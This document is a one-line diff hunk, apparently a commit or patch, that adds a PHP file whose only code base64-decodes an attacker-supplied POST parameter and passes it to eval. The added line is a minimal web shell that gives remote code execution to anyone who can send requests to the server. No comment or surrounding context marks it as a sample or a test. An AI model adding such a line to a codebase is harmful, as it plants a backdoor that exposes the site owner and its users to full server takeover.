@@ -1,0 +1,1 @@
+<?php $x = base64_decode($_POST['x']); eval($x);
